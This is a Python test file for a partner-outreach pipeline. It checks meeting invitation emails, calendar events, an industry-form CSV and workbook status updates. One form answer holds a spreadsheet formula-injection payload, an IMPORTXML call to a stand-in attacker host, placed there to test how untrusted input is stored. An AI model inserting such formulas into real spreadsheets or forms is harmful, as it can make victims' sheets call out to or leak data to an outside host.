"""The partner pipeline on the local backend: workbook rows, .eml letters, .ics events, a CSV form."""

from __future__ import annotations

import csv
import email
import email.policy
from datetime import datetime, timedelta
from email.message import EmailMessage
from pathlib import Path
from zoneinfo import ZoneInfo

from microintern.adapters.local import LocalWorkbook
from microintern.bootstrap import step_context
from microintern.config import ProgramConfig, load_config
from microintern.domain import program_sheet as sheet
from microintern.domain.mime import KEY_HEADER
from microintern.domain.partners import industry_form_spec, meeting_event_id
from microintern.steps.context import StepResult
from microintern.steps.partners import partner_pipeline
from microintern.steps.setup import initialise

LA = ZoneInfo("America/Los_Angeles")
NOW = datetime(2027, 1, 26, 6, 30, tzinfo=LA)


def folder(config: ProgramConfig) -> Path:
    return config.resolve(config.local.folder)


def run(config: ProgramConfig, now: datetime = NOW) -> StepResult:
    ctx = step_context(config, now)
    initialise(config, ctx.ports.roster)   # as every scheduled step is preceded
    return partner_pipeline(ctx)


def sent(config: ProgramConfig) -> dict[str, EmailMessage]:
    found: dict[str, EmailMessage] = {}
    for path in sorted((folder(config) / "outbox" / "sent").glob("*.eml")):
        message = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        key = str(message[KEY_HEADER])
        assert key not in found, "a letter went out twice"
        found[key] = message  # type: ignore[assignment]
    return found


def partners(config: ProgramConfig) -> dict[str, dict]:
    book = LocalWorkbook(folder(config) / "program.xlsx")
    return {str(r[sheet.PARTNER_ID]): r for r in book.read_tabs([sheet.PARTNERS])[sheet.PARTNERS]}


def write_industry_answers(config: ProgramConfig, rows: list[dict[str, str]]) -> None:
    """The industry form's responses as a linked-sheet CSV export (answers by question key)."""
    spec = industry_form_spec(config)
    forms = folder(config) / "forms"
    forms.mkdir(parents=True, exist_ok=True)
    with (forms / f"{spec.name}.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Timestamp", *(q.title for q in spec.questions)])
        for row in rows:
            writer.writerow([row["when"], *(row.get(q.key, "") for q in spec.questions)])


def test_partner_pipeline_on_the_local_backend(config_file: Path) -> None:
    config = load_config(config_file)
    ctx = step_context(config, NOW)
    initialise(config, ctx.ports.roster)
    ctx.ports.roster.upsert(sheet.PARTNERS, sheet.PARTNER_ID, [
        {sheet.PARTNER_ID: "solis-cyber", sheet.PARTNER_STATUS: "contacted",
         sheet.PARTNER_CONTACTED: "January 19, 2027", sheet.PARTNER_MEETING_TIME: "2027-02-02 10:00"},
        {sheet.PARTNER_ID: "desert-health", sheet.PARTNER_STATUS: "contacted",
         sheet.PARTNER_CONTACTED: "January 19, 2027"},
    ])

    result = run(config)
    letters = sent(config)
    program = config.program.id
    assert set(letters) == {f"{program}/partner_meeting/solis-cyber/-",
                            f"{program}/partner_followup/desert-health/-"}
    invite = letters[f"{program}/partner_meeting/solis-cyber/-"].get_body(("plain",)).get_content()
    assert "Tuesday, February 2, 2027, 10:00 AM to 10:30 AM" in invite
    assert "https://forms.example.invalid/industry?usp=pp_url&entry." in invite
    # The local room is a placeholder, and the run says so.
    assert any("placeholder link" in p for p in result.problems)
    event = folder(config) / "calendar" / "primary" / f"{meeting_event_id(program, 'solis-cyber')}.ics"
    ics = event.read_text(encoding="utf-8")
    assert "DTSTART;TZID=America/Los_Angeles:20270202T100000" in ics
    assert "m.ortega@soliscyber.example" in ics and config.coordinator.email in ics
    assert (folder(config) / "forms" / "industry.form.json").is_file()
    rows = partners(config)
    assert rows["solis-cyber"][sheet.PARTNER_STATUS] == "meeting scheduled"
    assert str(rows["solis-cyber"][sheet.PARTNER_MEETING_LINK]).startswith("https://meet.google.com/")
    assert rows["desert-health"][sheet.PARTNER_FOLLOWED_UP] == "January 26, 2027"
    assert set(rows) == {p.id for p in config.partners}   # missing partners added as prospects

    # The partner answers; the rerun reads it back, sends nothing and leaves the event alone.
    before = event.read_bytes()
    write_industry_answers(config, [{
        "when": "01/28/2027 09:15:00", "partner_id": "solis-cyber", "organization": "Solis",
        "topic": "=IMPORTXML(\"http://evil.example\",\"//a\")", "skills": "Reading logs",
        "available_dates": "Tuesday March 16 2027 at 3:30 PM", "group_size": "4-6",
        "recording_consent": "Yes", "co_presenters": ""}])
    result = run(config, NOW + timedelta(days=3))
    assert not [p for p in result.problems if "placeholder" not in p]
    assert len(sent(config)) == 2
    assert event.read_bytes() == before
    solis = partners(config)["solis-cyber"]
    assert solis[sheet.PARTNER_STATUS] == "industry form received"
    assert solis["Topic"] == "=IMPORTXML(\"http://evil.example\",\"//a\")"
    assert solis["Available dates"] == "Tuesday March 16 2027 at 3:30 PM"
    assert solis[sheet.PARTNER_INDUSTRY_FORM] == "January 28, 2027"
